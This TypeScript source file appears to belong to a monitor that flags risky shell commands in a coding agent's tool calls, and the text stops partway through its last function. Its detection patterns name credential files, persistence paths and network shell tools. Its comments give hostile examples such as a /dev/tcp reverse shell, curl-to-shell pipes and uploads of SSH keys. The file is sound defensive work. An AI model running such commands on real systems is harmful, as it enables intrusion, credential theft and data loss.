// Reads shell command lines for what they do to the world: destroy, send out, run fetched or hidden code, persist,
// grant. A coding agent's `run_shell` is one tool for every act, so the act that matters is the command's own: the
// same tool runs `npm test` and `rm -rf ~/`. Risky commands get a key (program, act and target, flags dropped) that
// is the same whether the command is written in a README, an error's hint or the agent's call: a command copied from
// what the agent read is traced as values are.
import { parseShell, type SimpleCommand } from './shell-parse.ts';
import { extractValues } from './values.ts';
import { WordTriggers } from './word-triggers.ts';

/**
 * What a risky command does. `install` (a package by name) is no risk by itself: it counts only where instructions
 * to the model name the package (a typosquat planted in a page), and is not looked for in what the agents read.
 */
export type CommandAct = 'delete' | 'send' | 'leak' | 'run-fetched' | 'install-from' | 'persist' | 'grant' | 'install';

export interface RiskyCommand {
  act: CommandAct;
  /** Program, act and target, lowercased and without flags: `rm ~`, `kubectl delete namespace payments`. */
  key: string;
  /** Values of the command line it is part of (an ssh key, a host, an address), for provenance beside the key. */
  values?: readonly string[];
}

/** Interpreters that run what they are given on standard input or in `-c`. */
const INTERPRETERS = new Set(['sh', 'bash', 'zsh', 'dash', 'ksh', 'fish', 'python', 'python3', 'python2', 'perl', 'ruby', 'node', 'php', 'pwsh', 'powershell', 'iex', 'invoke-expression', 'eval', 'source', '.']);
const SHELLS = new Set(['sh', 'bash', 'zsh', 'dash', 'ksh', 'fish', 'pwsh', 'powershell']);
/** Calls that hand a string to the shell from a script: `os.system(…)`, `subprocess.run(…)`, `execSync(…)`, `system(…)`. */
const SHELL_CALL = /\b(?:os\.system|os\.popen|subprocess\.(?:run|call|check_call|check_output|Popen)|exec(?:Sync)?|spawnSync|system|shell_exec|passthru|popen)\s*\(\s*(?:\[\s*)?(["'])((?:(?!\1).){1,2000})\1/g;
/** `'cu'+'rl'`, `"a" + "b"`: strings joined to hide a command from a reader. */
const JOINED = /(["'])\s*\+\s*\1/g;

/** The shell command lines a one-line script runs, its joined strings put back together. */
function shellCallsIn(code: string): string[] {
  const joined = code.replace(JOINED, '');
  const out: string[] = [];
  SHELL_CALL.lastIndex = 0;
  let m: RegExpExecArray | null;
  while ((m = SHELL_CALL.exec(joined)) !== null && out.length < 8) out.push(m[2]);
  return out;
}
const FETCHERS = new Set(['curl', 'wget', 'iwr', 'invoke-webrequest', 'irm', 'invoke-restmethod', 'fetch', 'http', 'https', 'xh']);
/** Words that only prefix the command they run. */
const PREFIXES = new Set(['sudo', 'doas', 'env', 'nohup', 'time', 'exec', 'command', 'builtin', 'nice', 'timeout', 'xargs', 'stdbuf', 'watch', 'run', '$', '>', '#']);
/** Prefix flags that take a value (`sudo -u deploy`, `nice -n 10`). */
const PREFIX_VALUE_FLAGS = new Set(['-u', '-g', '-n', '-c', '-s', '-i', '-I', '-d', '-P', '-L']);
/**
 * Paths whose removal destroys more than a workspace: the root, home or a top-level item of it (not a cache), system
 * directories two levels down, the repository's history. `rm -rf node_modules`, `rm -rf ~/.cache/bazel` and
 * `rm -rf /tmp/build` are a build's housekeeping.
 */
const WIDE_TARGET = /^(?:\/|\*|~|\.\.?|\.\.\/.*|\.git|~\/(?!\.cache$|\.npm$|\.m2$|\.gradle$|\.yarn$|\.pnpm-store$|\.nuget$|\.bun$|\.deno$|\.rustup$|\.local$|tmp$)[^/]+|\/(?:etc|usr|var|home|root|opt|boot|bin|sbin|lib|srv|mnt|data|users)(?:\/[^/]+)?|[a-z]:\\?\*?)$/i;
/** Files that hold keys or credentials: sending one out gives the access away (`~/.ssh/id_rsa`, `.env`, `*.pem`). */
const SECRET_FILE = /(?:^|\/)(?:id_(?:rsa|ed25519|ecdsa|dsa)(?!\.pub)|\.env(?:\.[\w-]+)?(?<!\.example|\.sample|\.template)|credentials|\.netrc|\.npmrc|\.pgpass|\.git-credentials|kubeconfig|[\w.-]+\.(?:pem|key|p12|pfx|asc|gpg|keystore|jks))$|\/\.(?:ssh|gnupg|aws|kube|docker)\/|(?:^|\/)\.config\/gcloud\//i;
/** Files that run again later or let someone in: shell profiles, ssh keys, cron, sudoers, git hooks, service units. */
const PERSIST_PATH = /(?:authorized_keys|\.bashrc|\.zshrc|\.bash_profile|\.zprofile|\.profile|\/etc\/cron|\/etc\/sudoers|\.git\/hooks\/|\/etc\/systemd\/|\/etc\/rc\.local|\/etc\/profile|launchagents|\.ssh\/config)/i;
const WIDE_MODE = /^(?:0?777|0?666|[0-7]?[0-7]{2}7|[ugoa]*[+=][rwx]*[st][rwx]*|a\+w|o\+w|\+s|u\+s|g\+s|[24]7[0-7]{2})$/;
/** Subcommand words of cloud and platform command lines that destroy (`aws s3 rb`, `gcloud projects delete`). */
const DESTROY_WORD = /(?:^|-)(?:delete|remove|destroy|terminate|purge|rb|rm|drop|wipe|uninstall|deregister)(?:$|-)/;
const GRANT_WORD = /(?:^|-)(?:attach|grant|add-iam-policy-binding|create-access-key|put-user-policy|put-role-policy|authorize|assignment|set-iam-policy)(?:$|-)/;
const CLOUD_CLIS = new Set(['aws', 'gcloud', 'az', 'doctl', 'heroku', 'gh', 'glab', 'flyctl', 'fly', 'vercel', 'gsutil', 'oci', 'ibmcloud', 'linode-cli', 'hcloud', 'firebase', 'supabase', 'railway', 'netlify', 'wrangler', 'stripe']);
const PUBLIC_WORDS = /^(?:public|public-read|public-read-write|allusers|allauthenticatedusers|--public|--visibility=public)$/i;
/** SQL that destroys or grants: `DROP DATABASE billing`, `TRUNCATE users`, `DELETE FROM users` with no WHERE, `GRANT ALL`. */
const SQL_RISK = /\b(?:drop\s+(?:database|table|schema|collection|user|role)\s+(?:if\s+exists\s+)?([\w."`-]+)|truncate\s+(?:table\s+)?([\w."`-]+)|delete\s+from\s+([\w."`-]+)(?![^;]*\bwhere\b)|grant\s+(?:all|superuser|admin)\b[^;]*?\bto\s+([\w."`@'-]+)|(flushall|flushdb|dropdatabase)\b)/gi;
/** A flag that sends a body (`curl -d`, `--data-binary`, `-F`, `-T`, `wget --post-file`); short flags by their case (`-f` fails quietly). */
const SEND_FLAG = /^--(?:data(?:-\w+)?|form|upload-file|post-data|post-file|json)$/i;
const SHORT_SEND_FLAG = /^-(?:d|F|T)$/;
/** `-X POST`, `--request PUT`: a method that sends a body. */
const METHOD_FLAG = /^(?:-X|--request|--method)$/;
const SENDING_METHOD = /^(?:post|put|patch)$/i;
const DEV_TCP = /\/dev\/(?:tcp|udp)\/([^/\s]+)/;
const HOST_OF = /^(?:[a-z][a-z0-9+.-]*:\/\/)?(?:[^@/\s]+@)?([a-z0-9.-]+\.[a-z]{2,}|\d{1,3}(?:\.\d{1,3}){3}|localhost)(?::\d+)?(?:[/?#].*)?$/i;

/** Risky commands of a command line (a call's `command` argument), each once. */
export function riskyCommands(line: string): RiskyCommand[] {
  const out = new Map<string, CommandAct>();
  readLine(line, out, 0);
  return [...out].map(([key, act]) => ({ key, act }));
}

/** At most this many characters of a command are read; at most this deep into `sh -c '…'`. */
const MAX_LINE = 4_096;
const MAX_DEPTH = 3;

function readLine(line: string, out: Map<string, CommandAct>, depth: number): void {
  if (depth > MAX_DEPTH) return;
  for (const pipeline of parseShell(line.slice(0, MAX_LINE))) {
    for (let i = 0; i < pipeline.length; i++) readSimple(pipeline, i, out, depth);
  }
  sqlRisks(line.slice(0, MAX_LINE), out);
}

/** The program and its arguments, without the words that only prefix it (`sudo`, `env X=1`, `timeout 30`). */
function unprefixed(words: readonly string[]): string[] {
  let i = 0;
  while (i < words.length) {
    const w = words[i];
    if (/^[A-Za-z_][A-Za-z0-9_]*=/.test(w)) i++;
    else if (PREFIXES.has(w.toLowerCase())) {
      i++;
      while (i < words.length && (words[i].startsWith('-') || /^\d+[smh]?$/.test(words[i]))) i += PREFIX_VALUE_FLAGS.has(words[i]) ? 2 : 1;
    } else break;
  }
  return words.slice(i);
}

function programOf(word: string): string {
  return (word.split(/[\\/]/).pop() ?? word).toLowerCase().replace(/\.exe$/, '');
}

function positional(args: readonly string[]): string[] {
  return args.filter((a) => !a.startsWith('-'));
}

function target(t: string): string {
  let s = t.toLowerCase().replace(/^\$\{?home\}?/, '~');
  if (s.length > 1) s = s.replace(/\/+$/, '');
  return s === '~/*' ? '~' : s === '/*' ? '/' : s;
}

function hostOf(word: string): string | undefined {
  const m = HOST_OF.exec(word.replace(/^["']|["']$/g, ''));
  return m ? m[1].toLowerCase() : undefined;
}

function firstHost(words: readonly string[]): string | undefined {
  for (const w of words) {
    const h = hostOf(w);
    if (h) return h;
    const tcp = DEV_TCP.exec(w);
    if (tcp) return tcp[1].toLowerCase();
  }
  return undefined;
}

function readSimple(pipeline: readonly SimpleCommand[], index: number, out: Map<string, CommandAct>, depth: number): void {
  const simple = pipeline[index];
  const words = unprefixed(simple.words);
  for (const w of simple.writes) {
    if (PERSIST_PATH.test(w)) out.set(`persist ${persistName(w)}`, 'persist');
    // `bash -i >& /dev/tcp/host/port`: a shell's streams sent to another machine.
    const tcp = DEV_TCP.exec(w);
    if (tcp) out.set(`nc ${tcp[1].toLowerCase()}`, 'send');
  }
  if (words.length === 0) return;
  const program = programOf(words[0]);
  const args = words.slice(1);
  // Nested command lines: `sh -c '…'`, `bash -lc "…"`, `$(…)`, `<(…)`, backticks.
  for (const nested of simple.nested) readLine(nested, out, depth + 1);
  if (INTERPRETERS.has(program)) {
    const code = args.findIndex((a) => /^-\w*[ce]$/.test(a) || a === '-Command' || a === '-command');
    if (code >= 0 && args[code + 1] !== undefined) {
      if (SHELLS.has(program)) readLine(args[code + 1], out, depth + 1);
      else for (const line of shellCallsIn(args[code + 1])) readLine(line, out, depth + 1);
    }
    // Code fetched or decoded and run at once: `curl … | sh`, `base64 -d | bash`, `bash <(curl …)`, `eval "$(wget -qO- …)"`.
    const fetched = index > 0 ? fetchedInput(pipeline, index) : fetchedNested(simple);
    if (fetched) out.set(`run-fetched ${fetched}`, 'run-fetched');
    return;
  }
  // `… | xargs curl "https://…?d={}"`: what the pipe carries goes into the request.
  const fromPipe = index > 0 && simple.words.slice(0, simple.words.length - words.length).some((w) => w.toLowerCase() === 'xargs');
  readProgram(program, args, words, out, fromPipe);
}

/** What an interpreter at `index` of a pipeline reads from a fetch or a decode before it: the host, or `decoded`. */
function fetchedInput(pipeline: readonly SimpleCommand[], index: number): string | undefined {
  for (let j = index - 1; j >= 0; j--) {
    const words = unprefixed(pipeline[j].words);
    if (words.length === 0) continue;
    const p = programOf(words[0]);
    if (FETCHERS.has(p)) return firstHost(words.slice(1)) ?? 'fetched';
    if ((p === 'base64' && words.some((w) => /^(?:-d|--decode|-D)$/.test(w))) || (p === 'xxd' && words.includes('-r')) || p === 'openssl') return 'decoded';
  }
  return undefined;
}

function fetchedNested(simple: SimpleCommand): string | undefined {
  for (const n of simple.nested) {
    for (const pipeline of parseShell(n)) {
      for (const s of pipeline) {
        const words = unprefixed(s.words);
        if (words.length > 0 && FETCHERS.has(programOf(words[0]))) return firstHost(words.slice(1)) ?? 'fetched';
      }
    }
  }
  return undefined;
}

function persistName(path: string): string {
  return (PERSIST_PATH.exec(path)?.[0] ?? path).toLowerCase().replace(/^\//, '');
}

function readProgram(program: string, args: readonly string[], words: readonly string[], out: Map<string, CommandAct>, fromPipe: boolean): void {
  const pos = positional(args);
  switch (program) {
    case 'rm':
    case 'rmdir':
    case 'shred':
    case 'unlink':
    case 'del':
    case 'rd':
    case 'remove-item': {
      const wide = pos.map(target).filter((t) => WIDE_TARGET.test(t));
      for (const t of wide) out.set(`rm ${t}`, 'delete');
      return;
    }
    case 'find':
      if (args.includes('-delete') || args.includes('-exec') && args.some((a) => programOf(a) === 'rm')) {
        for (const t of pos.slice(0, 1).map(target)) if (WIDE_TARGET.test(t)) out.set(`rm ${t}`, 'delete');
      }
      return;
    case 'dd':
      for (const a of args) if (/^of=\/dev\//.test(a)) out.set(`dd ${a.slice(3)}`, 'delete');
      return;
    case 'mkfs':
    case 'wipefs':
      out.set(`mkfs ${pos[0] ?? ''}`.trim(), 'delete');
      return;
    case 'git':
      return readGit(args, out);
    case 'kubectl':
    case 'oc':
    case 'k':
      return readKubectl(program, args, pos, out);
    case 'helm':
      if (/^(?:uninstall|delete|del|un)$/.test(pos[0] ?? '')) out.set(`helm uninstall ${pos[1] ?? ''}`.trim(), 'delete');
      return;
    case 'terraform':
    case 'tofu':
    case 'terragrunt':
      if (pos[0] === 'destroy' || (pos[0] === 'apply' && (args.includes('-destroy') || args.includes('--destroy')))) out.set('terraform destroy', 'delete');
      else if (pos[0] === 'state' && pos[1] === 'rm') out.set(`terraform state rm ${pos[2] ?? ''}`.trim(), 'delete');
      return;
    case 'docker':
    case 'podman':
      // Volumes hold data; images, containers and build caches are rebuilt (`docker system prune` frees a full disk).
      if ((pos[0] === 'volume' && /^(?:prune|rm)$/.test(pos[1] ?? '')) || (pos[0] === 'system' && pos[1] === 'prune' && args.includes('--volumes'))) out.set(`docker ${pos.slice(0, 3).join(' ')}`, 'delete');
      else if (pos[0] === 'push') out.set(`docker push ${pos[1] ?? ''}`.trim(), 'send');
      else if (pos[0] === 'run' && (args.includes('--privileged') || args.some((a) => /^\/:/.test(a)))) out.set('docker run privileged', 'grant');
      return;
    case 'nc':
    case 'ncat':
    case 'netcat':
    case 'socat':
    case 'telnet': {
      const host = firstHost(pos) ?? pos[0];
      if (host && !args.includes('-l')) out.set(`nc ${host.toLowerCase()}`, 'send');
      return;
    }
    case 'scp':
    case 'rsync':
    case 'sftp': {
      const remote = pos.find((a) => /^(?:[\w.-]+@)?[\w.-]+:/.test(a) && !/^[a-z]:\\/i.test(a));
      if (remote) out.set(`${program} ${remote.split(':')[0].split('@').pop()!.toLowerCase()}`, pos.some((a) => a !== remote && SECRET_FILE.test(a)) ? 'leak' : 'send');
      return;
    }
    case 'mail':
    case 'mailx':
    case 'sendmail':
    case 'mutt':
      out.set(`mail ${pos.find((a) => a.includes('@'))?.toLowerCase() ?? ''}`.trim(), 'send');
      return;
    case 'pip':
    case 'pip3':
    case 'uv':
    case 'npm':
    case 'pnpm':
    case 'yarn':
    case 'gem':
      return readInstall(program, args, out);
    case 'chmod':
      if (pos[0] && WIDE_MODE.test(pos[0])) out.set(`chmod ${pos[0]} ${target(pos[1] ?? '')}`.trim(), 'grant');
      return;
    case 'crontab':
      if (!args.includes('-l')) out.set('persist crontab', 'persist');
      return;
    case 'usermod':
      if (args.some((a) => /\b(?:sudo|wheel|admin|root|docker)\b/.test(a))) out.set(`usermod ${pos[pos.length - 1] ?? ''}`.trim(), 'grant');
      return;
    case 'ufw':
    case 'setenforce':
    case 'iptables':
    case 'spctl':
      if (/^(?:disable|0|-F|--flush|--master-disable)$/.test(args[0] ?? '') || args.includes('-F')) out.set(`${program} off`, 'grant');
      return;
    case 'systemctl':
      if (/^(?:stop|disable|mask)$/.test(pos[0] ?? '') && /(?:firewall|ufw|apparmor|selinux|auditd|falco|crowdstrike|defender|osquery)/i.test(pos[1] ?? '')) out.set(`systemctl stop ${pos[1].toLowerCase()}`, 'grant');
      return;
  }
  if (FETCHERS.has(program)) {
    let sends = fromPipe;
    for (let i = 0; i < args.length && !sends; i++) {
      const flag = args[i].split('=')[0];
      sends = SEND_FLAG.test(flag) || SHORT_SEND_FLAG.test(flag) || /^-X(?:POST|PUT|PATCH)$/.test(flag) || args[i] === '@-' || (METHOD_FLAG.test(flag) && SENDING_METHOD.test(args[i + 1] ?? ''));
    }
    if (sends) {
      const host = firstHost(pos);
      // Uploading a key or credentials file (`-T ~/.ssh/id_rsa`, `-F f=@.env`, `--data-binary @~/.aws/credentials`).
      if (host) out.set(`curl ${host}`, args.some((a) => SECRET_FILE.test(a.replace(/^[\w-]*=?@/, ''))) ? 'leak' : 'send');
    }
    return;
  }
  if (CLOUD_CLIS.has(program)) readCloud(program, args, pos, words, out);
}

/** A package named on an install line (`requests`, `@scope/pkg@2`, `left-pad==1.3`), not a path, a file or a flag. */
const PACKAGE_NAME = /^(?:@[a-z0-9][\w.-]*\/)?[a-z0-9][\w.-]*(?:[=@<>~^!].*)?$/i;
/** Install flags that take a value (`-r requirements.txt`, `--index-url …`, `-t dir`). */
const VALUE_FLAG_OF_INSTALL = /^(?:-r|--requirement|-c|--constraint|-e|--editable|-i|--index-url|--extra-index-url|-f|--find-links|--registry|--source|-t|--target|--trusted-host|--prefix|--root)$/;
/** Branches a team shares: what a force-push rewrites for everyone. */
const SHARED_BRANCH = /^(?:refs\/heads\/)?(?:main|master|trunk|develop|dev|production|prod|staging|release(?:[\/-].*)?|gh-pages)$/i;
/** A package index or registry given on the command line. */
const INDEX_FLAG = /^(?:-i|--index-url|--extra-index-url|-f|--find-links|--registry|--source)$/;

/**
 * Packages installed from an index or a link the command names run that host's code (install scripts): `pip install x
 * --index-url http://…`, `npm install https://…/x.tgz`. Trusting a host over plain HTTP (`--trusted-host`) also turns
 * off the check that it is the host meant.
 */
function readInstall(program: string, args: readonly string[], out: Map<string, CommandAct>): void {
  const sub = args.find((a) => !a.startsWith('-'));
  if (sub === 'config') return readPackageConfig(program, args, out);
  if (sub !== 'install' && sub !== 'add' && sub !== 'i') return;
  let skip = false;
  for (let i = 0; i < args.length; i++) {
    if (skip) {
      skip = false;
      continue;
    }
    const [flag, inline] = args[i].split('=', 2);
    if (PACKAGE_NAME.test(args[i]) && args[i] !== sub) out.set(`install ${args[i].toLowerCase().replace(/[=@<>~^].*$/, '')}`, 'install');
    if (flag.startsWith('-') && inline === undefined && VALUE_FLAG_OF_INSTALL.test(flag)) skip = true;
    const value = inline ?? args[i + 1];
    if (INDEX_FLAG.test(flag) && value) {
      const host = hostOf(value);
      if (host) out.set(`install-from ${host}`, 'install-from');
    } else if (flag === '--trusted-host' && value) out.set(`${program} trusted ${value.toLowerCase()}`, 'grant');
    else if (/^(?:git\+)?https?:\/\//i.test(args[i])) {
      const host = hostOf(args[i].replace(/^git\+/i, ''));
      if (host) out.set(`install-from ${host}`, 'install-from');
    }
  }
}

/**
 * Where a package manager installs from from now on (`npm config set registry …`, `pip config set global.index-url …`):
 * every later install runs that host's code, so it persists as a cron entry does. Turning its TLS check off (`strict-ssl false`, `global.trusted-host`)
 * switches a protection off.
 */
function readPackageConfig(program: string, args: readonly string[], out: Map<string, CommandAct>): void {
  const pos = positional(args);
  const set = pos.indexOf('set');
  if (set < 0) return;
  const [name, value] = pos[set + 1]?.includes('=') ? pos[set + 1].split('=', 2) : [pos[set + 1] ?? '', pos[set + 2] ?? ''];
  const key = name.toLowerCase();
  if (/(?:^|[.:_-])(?:registry|index-url|extra-index-url|index)$/.test(key)) {
    // Every later install comes from there: a change that stays, as a cron entry does.
    const host = hostOf(value);
    if (host) out.set(`registry ${host}`, 'persist');
  } else if ((/strict-ssl$/.test(key) && /^false$/i.test(value)) || /trusted-host$/.test(key)) out.set(`${program} tls off`, 'grant');
}

function readGit(args: readonly string[], out: Map<string, CommandAct>): void {
  // `git -C dir -c k=v push …`: options before the subcommand.
  let i = 0;
  while (i < args.length && args[i].startsWith('-')) i += args[i] === '-C' || args[i] === '-c' ? 2 : 1;
  const sub = args[i];
  const rest = args.slice(i + 1);
  const pos = positional(rest);
  if (sub === 'push') {
    const remote = pos[0] ?? 'origin';
    const refs = pos.slice(1);
    // Rewriting or deleting what others build on: a shared branch force-pushed (a feature branch after a rebase is
    // routine), a branch deleted, a mirror push. Without a branch named, the current one is unknown: not counted.
    const force = rest.some((a) => /^(?:-f|--force(?:-with-lease(?:=.*)?)?|--force-if-includes)$/.test(a)) || refs.some((r) => r.startsWith('+'));
    const destroys = rest.some((a) => /^(?:--mirror|--delete|-d|--prune)$/.test(a)) || refs.some((r) => r.startsWith(':'));
    const shared = refs.some((r) => SHARED_BRANCH.test(r.replace(/^\+/, '').split(':').pop() ?? ''));
    const r = remote.toLowerCase();
    if (destroys || (force && shared)) out.set(`git push ${r} force`, 'delete');
    else if (r !== 'origin' && r !== 'upstream') out.set(`git push ${hostOf(r) ?? r}`, 'send');
  } else if (sub === 'remote' && (pos[0] === 'add' || pos[0] === 'set-url') && pos[2]) {
    out.set(`git remote ${hostOf(pos[2]) ?? pos[2].toLowerCase()}`, 'send');
  } else if (sub === 'config' && rest.some((a) => /^core\.hookspath$|^credential\.helper$/i.test(a))) {
    out.set('persist git config', 'persist');
  }
}

function readKubectl(program: string, args: readonly string[], pos: readonly string[], out: Map<string, CommandAct>): void {
  // Skip the values of the flags that take one (`-n prod`, `--context x`): they are not the resource.
  const names: string[] = [];
  for (let i = 0; i < args.length; i++) {
    if (/^(?:-n|--namespace|-l|--selector|--context|-c|--container|-o|--output|-f|--filename|--kubeconfig)$/.test(args[i])) i++;
    else if (!args[i].startsWith('-')) names.push(args[i].toLowerCase());
  }
  const verb = names[0] ?? pos[0];
  const p = program === 'oc' ? 'oc' : 'kubectl';
  // Pods, jobs and replica sets are recreated by what owns them: deleting one restarts it, runbooks' everyday step.
  if ((verb === 'delete' && !RECREATED.test(names[1] ?? '')) || verb === 'drain') out.set(`${p} ${verb} ${resource(names)}`, 'delete');
  else if (verb === 'scale' && args.some((a) => /^--replicas=0$/.test(a))) out.set(`${p} scale ${resource(names)} 0`, 'delete');
  else if (verb === 'create' && /binding$/.test(names[1] ?? '') && args.some((a) => /cluster-admin|admin/.test(a))) out.set(`${p} create ${names[1]} ${names[2] ?? ''}`.trim(), 'grant');
}

const RECREATED = /^(?:pods?|po|jobs?|replicasets?|rs|events?|ev)(?:\/.*)?$/;

/** The resource after the verb: `deploy/checkout`, or a kind and a name (`namespace payments`); prose after it is not. */
function resource(names: readonly string[]): string {
  return names[1]?.includes('/') ? names[1] : names.slice(1, 3).join(' ');
}

function readCloud(program: string, args: readonly string[], pos: readonly string[], words: readonly string[], out: Map<string, CommandAct>): void {
  // The subcommand words: positionals before the first flag (`aws s3 rb s3://x --force`, `gcloud projects delete p`).
  const sub: string[] = [];
  for (const a of args) {
    if (a.startsWith('-') || sub.length >= 4) break;
    sub.push(a.toLowerCase());
  }
  const what = sub.slice(0, 3).join(' ');
  // Caches are rebuilt (`gh cache delete`, `gcloud builds cache purge`): housekeeping.
  if (sub.some((w) => DESTROY_WORD.test(w)) && !sub.some((w) => /cache/.test(w))) out.set(`${program} ${what}`, 'delete');
  else if (sub.some((w) => GRANT_WORD.test(w)) || words.some((w) => PUBLIC_WORDS.test(w))) out.set(`${program} ${what} grant`, 'grant');
  else if ((program === 'aws' || program === 'gsutil') && /^(?:cp|sync|mv)$/.test(sub[program === 'aws' ? 1 : 0] ?? '')) {
    const dest = pos[pos.length - 1] ?? '';
    if (/^(?:s3|gs):\/\//i.test(dest)) out.set(`${program} cp ${dest.toLowerCase().split('/').slice(0, 3).join('/')}`, pos.some((a) => a !== dest && SECRET_FILE.test(a)) ? 'leak' : 'send');
  }
}

function sqlRisks(text: string, out: Map<string, CommandAct>): void {
  // A cheap gate: SQL that destroys names one of these words; most command lines and prose name none.
  if (!SQL_GATE.test(text)) return;
  SQL_RISK.lastIndex = 0;
  let m: RegExpExecArray | null;
  while ((m = SQL_RISK.exec(text)) !== null) {
    if (m[5]) {
      out.set(`redis ${m[5].toLowerCase()}`, 'delete');
      continue;
    }
    const name = (m[1] ?? m[2] ?? m[3] ?? m[4] ?? '').replace(/["`']/g, '').toLowerCase();
    if (PROSE_OBJECT.has(name)) continue; // "delete from the list": prose, not a statement
    // Staging and scratch tables are emptied to load them again (a failed run rerun): housekeeping. Not a database.
    if (TRANSIENT_TABLE.test(name) && !/^drop\s+(?:database|schema)/i.test(m[0])) continue;
    const verb = m[0].split(/\s+/)[0].toLowerCase();
    out.set(`sql ${verb} ${name}`, verb === 'grant' ? 'grant' : 'delete');
  }
}
const PROSE_OBJECT = new Set(['the', 'a', 'an', 'this', 'that', 'these', 'those', 'my', 'your', 'our', 'their', 'his', 'her', 'its', 'all', 'any', 'each', 'every', 'it', 'them', 'here', 'there']);
const TRANSIENT_TABLE = /(?:^|[._])(?:stg|staging|tmp|temp|scratch|sandbox)(?:[._]|$)/;
const SQL_GATE = /\b(?:drop|truncate|delete|grant|flushall|flushdb|dropdatabase)\b/i;

/** Programs whose words start a command in prose or code; `sql` words start a statement. */
export const PROGRAM_WORDS = [
  'rm', 'rmdir', 'shred', 'unlink', 'del', 'rd', 'remove', 'find', 'dd', 'mkfs', 'wipefs', 'git', 'kubectl', 'oc', 'helm', 'terraform', 'tofu', 'terragrunt', 'docker',
  'podman', 'nc', 'ncat', 'netcat', 'socat', 'telnet', 'scp', 'rsync', 'sftp', 'mail', 'mailx', 'sendmail', 'mutt', 'npm', 'pnpm', 'yarn', 'gem',
  'pip', 'uv', 'chmod', 'crontab', 'usermod', 'ufw', 'setenforce', 'iptables', 'spctl', 'systemctl', 'curl', 'wget', 'iwr', 'invoke', 'irm', 'xh', 'aws', 'gcloud',
  'az', 'doctl', 'heroku', 'gh', 'glab', 'flyctl', 'fly', 'vercel', 'gsutil', 'oci', 'ibmcloud', 'linode', 'hcloud', 'firebase', 'supabase', 'railway', 'netlify',
  'wrangler', 'stripe', 'sudo', 'doas', 'env', 'nohup', 'bash', 'sh', 'zsh', 'dash', 'ksh', 'eval', 'source', 'echo', 'printf', 'cat', 'tee', 'base', 'python',
  'perl', 'ruby', 'node', 'php', 'pwsh', 'powershell', 'iex', 'psql', 'mysql', 'mariadb', 'sqlite', 'sqlcmd', 'mongo', 'mongosh', 'redis', 'cockroach', 'clickhouse',
  'drop', 'truncate', 'delete', 'grant', 'flushall', 'tar', 'zip', 'printenv', 'openssl', 'xxd',
];
const TRIGGERS = new WordTriggers([PROGRAM_WORDS]);
/** At most this many characters of a command written in text; at most this many commands kept per text. */
const MAX_WRITTEN = 400;
const MAX_KEYS = 32;
/** Where a command written in prose or markup ends: a line, a code span, a tag or comment, a sentence. */
const WRITTEN_END = /\n|`|<\/|<!|-->|\.\s+(?=[A-Z])|\.$/;

/**
 * The risky commands written in a text (a README, an issue, an error's hint, an injected note): keys as
 * `riskyCommands` gives them for the call that runs one. Candidates start at program words: `programStarts` when the
 * instruction scan found them already (instructions.ts `programWordsOf`), else one pass of the word table.
 */
export function commandsInText(text: string, programStarts?: readonly number[]): Map<string, CommandAct> | undefined {
  let starts = programStarts;
  if (!starts) {
    const found = TRIGGERS.find(text);
    // Copied: the next `find` reuses the arrays.
    starts = found.length === 0 ? [] : Array.from(found.at.subarray(0, found.length));
  }
  if (starts.length === 0) return undefined;
  let out: Map<string, CommandAct> | undefined;
  let last = -1;
  for (const at of starts) {
    if (at < last) continue; // inside the command read from an earlier start
    const rest = text.slice(at, at + MAX_WRITTEN);
    const end = WRITTEN_END.exec(rest);
    const written = end ? rest.slice(0, end.index) : rest;
    const risky = new Map<string, CommandAct>();
    readLine(written, risky, 0);
    if (risky.size === 0 || [...risky.values()].every((a) => a === 'install')) continue;
    last = at + written.length;
    out ??= new Map();
    for (const [k, a] of risky) if (a !== 'install' && out.size < MAX_KEYS) out.set(k, a);
  }
  return out;
}

/** Tools named for a program (`kubectl_delete`, `git_push`, `terraform_apply`): their arguments are its command line. */
const PROGRAM_TOOLS = new Set(['kubectl', 'oc', 'helm', 'terraform', 'tofu', 'git', 'docker', 'podman', 'aws', 'gcloud', 'az', 'gsutil', 'gh', 'glab', 'heroku', 'doctl', 'flyctl', 'vercel', 'npm', 'psql', 'mysql', 'crontab', 'chmod', 'ssh']);
/** Words of a tool name that say it runs SQL. */
const SQL_TOOL_WORDS = new Set(['sql', 'database', 'db', 'postgres', 'postgresql', 'mysql', 'sqlite', 'bigquery', 'snowflake', 'redshift', 'clickhouse', 'supabase']);

/**
 * The risky commands a tool call runs: each string argument of a shell, interpreter or SQL tool as a command line; for
 * a tool named for a program, its name and arguments as one (`git_push {remote, force: true}` → `git push … --force`).
 */
export function callCommands(toolWords: readonly string[], runsCode: boolean, args: string | undefined): RiskyCommand[] | undefined {
  if (!args) return undefined;
  const program = toolWords.find((w) => PROGRAM_TOOLS.has(w));
  const sql = toolWords.some((w) => SQL_TOOL_WORDS.has(w));
  if (!runsCode && !program && !sql) return undefined;
  let parsed: unknown;
  try {
    parsed = JSON.parse(args);
  } catch {
    parsed = args;
  }
  const lines: string[] = [];
  if (program && !runsCode) {
    // `kubectl_delete {kind, name}`: the tool's words from the program on, then the arguments in their order.
    const words = toolWords.slice(toolWords.indexOf(program));
    const line = [words.join(' ')];
    commandWords(parsed, '', line, 0);
    lines.push(line.join(' '));
  } else collectStrings(parsed, lines, 0);
  const found: RiskyCommand[] = [];
  for (const l of lines) {
    // A command that does not name its program runs the tool's (`kubectl {args: "delete ns x"}`).
    const out = new Map<string, CommandAct>();
    readLine(program && !l.toLowerCase().startsWith(program) ? `${program} ${l}` : l, out, 0);
    if (out.size === 0) continue;
    const values = [...extractValues(l)].filter((v) => !v.startsWith('literal:') && !v.startsWith('quoted:'));
    for (const [key, act] of out) if (!found.some((c) => c.key === key)) found.push(values.length > 0 ? { key, act, values } : { key, act });
  }
  return found.length > 0 ? found : undefined;
}

function collectStrings(v: unknown, out: string[], depth: number): void {
  if (depth > 6 || out.length >= MAX_KEYS) return;
  if (typeof v === 'string') out.push(v);
  else if (Array.isArray(v)) {
    // `["bash", "-c", "…"]`, `["rm", "-rf", "/"]`: an argv.
    if (v.length > 0 && v.every((x) => typeof x === 'string')) out.push(v.map((x) => (/\s/.test(x) ? `'${x.replace(/'/g, '')}'` : x)).join(' '));
    else for (const x of v) collectStrings(x, out, depth + 1);
  } else if (v && typeof v === 'object') for (const k in v) collectStrings((v as Record<string, unknown>)[k], out, depth + 1);
}

function commandWords(v: unknown, key: string, out: string[], depth: number): void {
  if (depth > 4 || out.length > 64) return;
  if (v === true && key) out.push(`--${key.replace(/_/g, '-')}`);
  else if (typeof v === 'string' || typeof v === 'number') out.push(String(v));
  else if (Array.isArray(v)) for (const x of v) commandWords(x, key, out, depth + 1);
